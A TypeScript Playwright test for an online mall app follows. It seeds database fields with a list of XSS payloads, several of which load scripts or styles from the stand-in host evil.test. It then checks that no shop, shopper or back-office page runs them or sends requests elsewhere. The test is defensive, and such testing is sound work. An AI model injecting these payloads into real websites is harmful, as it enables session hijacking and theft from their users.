import type { Page } from 'playwright';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { Language } from '#contract/languages';
import { sql } from '#server/platform/db/open';
import { paths, type RouteName } from '../../src/shop/paths';
import { to } from '../../src/shop/to';
import { paths as officePaths } from '../../src/office/paths';
import { runMall, type RunningMall, type Visit } from './lib/mall';
import { device, person, placed } from './lib/people';
import { Staff } from './lib/staff';

/** Each would set `ran` where it ran, or send for something elsewhere. */
const ran = 'window.ran=1';
const payloads = [
  `<script>${ran}</script>`,
  `"><script>${ran}</script>`,
  `'><script>${ran}</script>`,
  `</script><script>${ran}</script>`,
  `<script src=//evil.test/a.js></script>`,
  `<ScRiPt>${ran}</sCrIpT>`,
  `<img src=x onerror=${ran}>`,
  `"><img src=x onerror=${ran}>`,
  `<img src=//evil.test/a.png>`,
  `<svg onload=${ran}>`,
  `<svg><script>${ran}</script></svg>`,
  `<svg><animate onbegin=${ran} attributeName=x dur=1s>`,
  `<body onload=${ran}>`,
  `<iframe src="javascript:parent.${ran}">`,
  `<iframe srcdoc="<script>parent.${ran}</script>">`,
  `<object data="javascript:${ran}">`,
  `<embed src="javascript:${ran}">`,
  `<a href="javascript:${ran}">x</a>`,
  `javascript:${ran}`,
  `" onmouseover="${ran}" x="`,
  `' onfocus='${ran}' autofocus='`,
  `" autofocus onfocus=${ran} x="`,
  `<details open ontoggle=${ran}>`,
  `<video><source onerror=${ran}></video>`,
  `<audio src=x onerror=${ran}>`,
  `<input autofocus onfocus=${ran}>`,
  `<select autofocus onfocus=${ran}>`,
  `<math><mtext><img src=x onerror=${ran}></math>`,
  `<style>@import "//evil.test/a.css"</style>`,
  `<link rel=stylesheet href=//evil.test/a.css>`,
  `<meta http-equiv=refresh content="0;url=//evil.test/">`,
  `<base href=//evil.test/>`,
  `<form action=//evil.test/><button autofocus>`,
  `{{constructor.constructor('${ran}')()}}`,
  `\${${ran}}`,
  `]]><script>${ran}</script>`,
  `<!--<script>${ran}//-->`,
  `<noscript><p title="</noscript><img src=x onerror=${ran}>">`,
  `%3Cscript%3E${ran}%3C/script%3E`,
  `&lt;script&gt;${ran}&lt;/script&gt;`,
  `\u003cscript\u003e${ran}\u003c/script\u003e`,
  `{a, select, other {<b>${ran}</b>}}`,
];
/** One of them for each row of a table, in SQL. */
const one = (row: string) =>
  `(array[${payloads.map((text) => `'${text.replaceAll("'", "''")}'`).join(', ')}])[1 + abs(hashtext(${row}::text)) % ${payloads.length}]`;
const words = (row: string) =>
  `jsonb_build_object('en', ${one(row)}, 'hu', ${one(`${row}::text || 'hu'`)})`;

let mall: RunningMall;
/** As if what is looked at on its way in had been let through: written by hand. */
const poison = () =>
  mall.db.script(`
  update products set name = ${words('id')}, short_description = ${words("id || 'short'")}, description = ${words("id || 'long'")};
  update shops set name = ${one('id')}, contact = ${one("id || 'c'")}, city = ${one("id || 'city'")}, description = ${words('id')};
  update categories set name = ${words('id')};
  update brands set name = ${one('id')} || id;
  update adverts set title = ${words('id')}, words = ${words("id || 'w'")}, label = ${words("id || 'l'")};
  update option_terms set name = ${words('en')};
  insert into setting (name, value) values ('system_notice', jsonb_build_object('text', ${words("'notice'")}, 'level', 'warn')) on conflict (name) do update set value = excluded.value`);
beforeAll(async () => {
  mall = await runMall();
  await poison();
});
afterAll(() => mall.close());

/** What ran, what the browser's policy stopped, and what was sent for elsewhere. */
async function harm(visit: Visit, addresses: readonly string[]): Promise<string[]> {
  const found: string[] = [];
  let shown = 0;
  visit.page.on('request', (request) => {
    if (!request.url().startsWith(mall.url) && !/^(data|blob):/.test(request.url()))
      found.push(`asked ${request.url()}`);
  });
  visit.page.on('dialog', (dialog) => {
    found.push('a dialog');
    void dialog.dismiss();
  });
  for (const address of addresses) {
    await visit.page.goto(address);
    await rested(visit.page);
    shown += Number(
      await visit.page.evaluate(() => /ran=1|evil\.test/.test(document.body.innerText)),
    );
    if (await visit.page.evaluate(() => 'ran' in window)) found.push(`ran at ${address}`);
    if (
      await visit.page.evaluate(
        () =>
          document.querySelector(
            'main script, main iframe, main object, main embed, main base, main [onerror], main [onload], main [onfocus], a[href^="javascript:"]',
          ) !== null,
      )
    )
      found.push(`markup at ${address}`);
    found.push(
      ...visit.problems
        .splice(0)
        .filter((text) => /Content Security Policy|Trusted/i.test(text))
        .map((text) => `${address}: ${text}`),
    );
  }
  // Otherwise nothing was tried.
  expect(shown).toBeGreaterThan(addresses.length / 4);
  return found;
}
const rested = async (page: Page) => {
  await page.waitForSelector('main h1');
  await page.waitForLoadState('networkidle');
};
const hash = (name: RouteName, query: Record<string, string> = {}) =>
  `${mall.url}/${(to[name] as (query: object) => string)(query)}`;
const idOf = async (query: ReturnType<typeof sql>) =>
  String((await mall.db.row<{ id: string | number }>(query))?.id);
const ids = async (): Promise<Partial<Record<RouteName, string>>> => ({
  category: await idOf(
    sql`select category_id as id from products where state = 'onSale' and category_id is not null limit 1`,
  ),
  product: await idOf(sql`select id from products where state = 'onSale' order by id limit 1`),
  shop: await idOf(sql`select id from shops limit 1`),
});

test.each(['hu', 'en'] as const)(
  'in %s no text of anybody runs on a page of the mall, for a visitor or a shopper',
  async (lang: Language) => {
    const known = await ids();
    const open = (Object.keys(paths) as RouteName[])
      .filter((name) => !('who' in paths[name]))
      .map((name) => hash(name, known[name] ? { id: known[name] } : {}));
    const visit = await mall.open(lang);
    expect(await harm(visit, [...open, hash('search', { keyword: payloads[0] ?? '' })])).toEqual(
      [],
    );
    await visit.context.close();
    const who = await person(mall);
    await mall.db.rows(sql`update users set name = ${payloads[7]} where id = ${who.user}`);
    await who.stand.balance(5000_00);
    const [order] = await placed(mall, who, 'wallet');
    await mall.db.rows(
      sql`update addresses set name = ${payloads[6]}, street = ${payloads[9]}, city = ${payloads[1]} where user_id = ${who.user}`,
    );
    await who.stand.fill();
    await who.stand.quote('complete');
    const shopper = await device(mall, lang, who);
    const mine = (
      [
        'dashboard',
        'addresses',
        'purchases',
        'notices',
        'wallet',
        'checkout',
        'shipping',
        'delivery',
      ] as const
    ).map((name) => hash(name));
    expect(
      await harm(shopper.visit, [
        ...mine,
        hash('order', { id: String(order?.id) }),
        hash('pay', { step: 'confirm' }),
      ]),
    ).toEqual([]);
    await shopper.visit.context.close();
  },
);
test('nor on a page of the back office', async () => {
  const staff = await Staff.signedIn(mall);
  const pages = Object.values(officePaths)
    .filter(({ side }) => side === 'staff')
    .map(({ path }) => `${mall.url}/backoffice#${path}`);
  expect(await harm(staff.visit, pages)).toEqual([]);
  await staff.visit.context.close();
});
